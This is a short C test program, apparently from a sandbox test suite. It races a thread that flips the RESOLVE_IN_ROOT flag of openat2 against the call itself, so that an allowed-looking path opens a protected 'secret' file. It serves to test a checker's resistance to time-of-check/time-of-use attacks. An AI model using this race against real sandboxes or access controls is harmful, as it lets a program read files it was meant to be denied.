// SPDX-License-Identifier: Apache-2.0
// A thread flips RESOLVE_IN_ROOT: with it "/secreT/../x" is another file than without.
#include "attack.h"
#include <linux/openat2.h>

int main(void)
{
	// Within the folder in/ the absolute name is that of an allowed file.
	static struct open_how how = {.flags = O_RDONLY, .resolve = RESOLVE_IN_ROOT};
	static char name[256], twin[300];
	snprintf(name, sizeof name, "%s/secret", getenv("ATTACK_WORK"));
	must(mkdir("in", 0755), "mkdir");
	for (char *p = name + 1; (p = strchr(p, '/')); p++) {
		*p = 0;
		snprintf(twin, sizeof twin, "in%s", name);
		must(mkdir(twin, 0755), "mkdir");
		*p = '/';
	}
	snprintf(twin, sizeof twin, "in%s", name);
	close(open(twin, O_WRONLY | O_CREAT, 0644));
	int dir = open("in", O_PATH);
	flip((char *)&how.resolve, RESOLVE_IN_ROOT, 0);
	while (race_more())
		race_won(is_secret((int)syscall(SYS_openat2, dir, name, &how, sizeof how)));
	race_end();
}
